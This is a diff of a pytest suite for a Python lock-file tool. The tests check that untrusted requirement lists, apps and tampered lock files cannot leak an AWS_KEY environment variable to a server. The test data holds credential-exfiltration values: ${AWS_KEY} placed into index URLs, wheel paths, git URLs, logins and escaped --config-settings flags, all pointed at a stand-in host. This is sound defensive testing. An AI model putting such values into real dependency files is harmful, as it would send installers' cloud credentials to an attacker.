@@ -30,7 +30,11 @@ def stranger(project: Project, tmp_path: Path) -> Project:
 
 def find_canaries(project: Project) -> list[str]:
     """The requests that hold a canary, in any header or in the target; Basic logins decoded."""
-    return [request.target for request in project.server.log if CANARY in f"{request.target} {request.headers}"]
+    return [
+        request.target
+        for request in project.server.log
+        if CANARY in f"{request.target} {request.headers} {request.login}"
+    ]
 
 
 def spell(project: Project, text: str) -> str:
@@ -60,6 +64,10 @@ LINES = [
     "--index-url http://HOST/simple/\n${AWS_KEY}==1.0",
     "--index-url http://HOST/simple/\na-${AWS_KEY}==1.0",
     "--index-url http://HOST/simple/\na @ http://HOST/files/a-1.0.tar.gz --config-settings=x=${AWS_KEY}",
+    "--index-url http://HOST/simple/\na @ http://HOST/files/a-1.0.tar.gz --conf x=${AWS_KEY}",
+    "--index-url http://HOST/simple/\na @ http://HOST/files/a-1.0.tar.gz -C 'x= ${AWS_KEY}'",
+    "--index-url http://HOST/simple/\na @ http://HOST/files/a-1.0.tar.gz -C x=y '--config-set'tings=x=${AWS_KEY}",
+    "--index-url http://HOST/simple/\na @ http://HOST/files/a-1.0.tar.gz -C x=y \\-C x=${AWS_KEY}",
 ]
 
 
@@ -70,7 +78,7 @@ def test_a_list_of_somebody_else_sends_no_variable(stranger: Project, lines: str
     if nested:
         stranger.write("requirements.txt", "-r inner.txt\n")
 
-    run = stranger.lock("requirements.txt", "-v")
+    run = stranger.lock("requirements.txt")
 
     assert run.code == 2, run.err
     assert stranger.server.log == []
@@ -96,7 +104,7 @@ def test_a_list_of_somebody_else_sends_no_variable(stranger: Project, lines: str
 def test_settings_of_somebody_else_send_no_variable(stranger: Project, name: str, text: str) -> None:
     stranger.write(name, spell(stranger, text))
 
-    run = stranger.lock(name, "-v")
+    run = stranger.lock(name)
 
     assert (run.code, find_canaries(stranger), stranger.server.log) == (2, [], []), run.err
     assert CANARY not in run.out + run.err
@@ -116,10 +124,44 @@ def test_an_app_of_somebody_else_sends_no_variable(stranger: Project, item: str)
     text = "import os\nimport fal\n\n\nclass Demo(fal.App):\n    requirements = [ITEM]\n".replace("ITEM", item)
     stranger.write("app.py", spell(stranger, text))
 
-    run = stranger.lock("app.py", "-v")
+    run = stranger.lock("app.py")
 
     assert (run.code, stranger.server.log) == (2, []), run.err
     assert CANARY not in run.out + run.err
+
+
+APP = "import os\nimport fal\n\n\nclass Demo(fal.App):\n    requirements = ['-i', 'INDEX', ITEM]\n"
+CHANGED = [
+    "os.environ['AWS_KEY'] + '==1.0'",
+    "'a @ http://HOST/files/' + os.environ['AWS_KEY'].strip() + '/a-1.0-py3-none-any.whl'",
+    "f\"a @ http://HOST/files/{os.environ['AWS_KEY'][1:]}/a-1.0-py3-none-any.whl\"",
+    "'a @ http://HOST/files/' + ''.join(c for c in os.environ['AWS_KEY']) + '/a-1.0-py3-none-any.whl'",
+    "'a' if os.environ['AWS_KEY'] > 'c' else 'b'",
+]
+
+
+@pytest.mark.parametrize("item", CHANGED)
+def test_an_app_sees_no_variable_that_only_its_own_settings_name(stranger: Project, item: str) -> None:
+    """With its value, an app could write it into any URL in a form of its own."""
+    stranger.write("app.py", spell(stranger, APP.replace("ITEM", item)))
+    stranger.write("pyproject.toml", '[tool.pinfold]\nenvironment = ["AWS_KEY"]\n')
+
+    run = stranger.lock("app.py")
+
+    assert (run.code, stranger.server.log) == (2, []), run.err
+    assert "[tool.pinfold] environment: `AWS_KEY` may not be given to `app.py`" in run.err
+    assert CANARY not in run.out + run.err
+
+
+def test_an_app_sees_a_variable_that_is_allowed(stranger: Project) -> None:
+    stranger.monkeypatch.setenv("A_VERSION", "1.0")
+    stranger.write("app.py", APP.replace("ITEM", "'a==' + os.environ['A_VERSION']"))
+    stranger.write("pyproject.toml", '[tool.pinfold]\nenvironment = ["A_VERSION"]\n')
+
+    assert stranger.lock("app.py").code == 2
+    assert stranger.lock("app.py", "--allow-variable", "A_VERSION=apps").code == 0
+    assert stranger.lock("allow", "app.py").out.startswith("app.py: `A_VERSION` may be sent to `apps` (")
+    assert stranger.lock("app.py").code == 0
 
 
 def test_the_login_of_a_family_goes_to_no_host_of_the_project(stranger: Project) -> None:
@@ -268,3 +310,50 @@ def test_an_export_has_a_variable_where_the_list_of_the_builder_names_it(strange
     assert f"`AWS_KEY` is left out for `{host}`" in forged.err.replace("index.example", host)
     for words in (("--list", "requirements.txt"), ("--allow-variable", f"AWS_KEY={host}")):
         assert "${AWS_KEY}@" in run_verb(stranger, "export", "--format", "list", *words).out
+
+
+FORGED = [
+    ("/files/a-1.0", "/files/${AWS_KEY}/a-1.0"),
+    ("/files/a-1.0", "/${AWS_KEY}/files/a-1.0"),
+    ('url = "http://', 'url = "http://${AWS_KEY}@'),
+    ('index = "http://', 'index = "http://${AWS_KEY}@'),
+    ("/simple/", "/${AWS_KEY}/simple/"),
+    ('"a",', '"a @ http://HOST/${AWS_KEY}/a-1.0-py3-none-any.whl",'),
+    ('"a",', '"a @ git+http://${AWS_KEY}@HOST/a.git",'),
+    ('"--index-url",', '"--extra-index-url",\n        "http://HOST/${AWS_KEY}/",\n        "--index-url",'),
+]
+VERBS = [
+    ("fetch", "--to", "wheels"),
+    ("verify",),
+    ("sizes",),
+    ("outdated",),
+    ("hydrate", "-o", "pylock.build.toml"),
+    ("export", "--format", "requirements"),
+    ("export", "--format", "list"),
+]
+
+
+@pytest.mark.parametrize(("old", "new"), FORGED, ids=[new for _, new in FORGED])
+@pytest.mark.parametrize("verb", VERBS, ids=" ".join)
+def test_a_lock_of_somebody_else_sends_no_variable(
+    stranger: Project, verb: tuple[str, ...], old: str, new: str
+) -> None:
+    stranger.write("requirements.txt", "--index-url INDEX\na\n")
+    assert stranger.lock("requirements.txt").code == 0
+    path = stranger.folder / "pylock.toml"
+    text = path.read_text(encoding="utf-8")
+    assert old in text
+    path.write_text(text.replace(old, spell(stranger, new)), encoding="utf-8")
+    stranger.server.log.clear()
+
+    hosts = () if verb[0] in ("hydrate", "export") else ("--allow-host", "127.0.0.1")
+    run = run_verb(stranger, *verb, *hosts)
+
+    assert find_canaries(stranger) == []
+    assert CANARY not in run.out + run.err
+    written = [one for one in stranger.folder.rglob("*") if one.is_file() and CANARY.encode() in one.read_bytes()]
+    assert written == []
+    # What an installer would replace by the value.
+    assert verb[0] != "export" or "${AWS_KEY}" not in "".join(
+        line for line in run.out.splitlines() if not line.startswith("#")
+    )
